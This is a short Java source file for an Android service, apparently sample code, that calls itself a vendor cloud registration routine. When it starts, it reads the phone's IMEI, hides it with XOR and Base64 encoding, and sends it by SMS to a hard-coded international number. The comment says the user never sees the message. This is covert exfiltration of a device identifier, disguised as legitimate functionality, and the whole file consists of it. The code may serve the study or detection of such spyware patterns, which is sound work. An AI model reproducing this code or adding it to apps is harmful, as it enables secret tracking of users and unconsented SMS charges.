package com.phonehome.sample.cloud;

import android.telephony.SmsManager;
import java.util.Base64;

/**
 * Registers the phone for the vendor cloud: proves the SIM's number by sending an SMS with an
 * encrypted token to the vendor's gateway. The user never sees this message.
 */
public class RegistrationService extends android.app.Service {
    private static final String GATEWAY = "+8610690000000";

    @Override
    public int onStartCommand(android.content.Intent intent, int flags, int startId) {
        android.telephony.TelephonyManager tm =
                (android.telephony.TelephonyManager) getSystemService("phone");
        String token = Base64.getEncoder().encodeToString(xor(tm.getImei().getBytes()));
        SmsManager.getDefault().sendTextMessage(GATEWAY, null, "REG:" + token, null, null);
        return 2;
    }

    private static byte[] xor(byte[] data) {
        byte[] out = new byte[data.length];
        for (int i = 0; i < data.length; i++) {
            out[i] = (byte) (data[i] ^ 0x5a);
        }
        return out;
    }
}
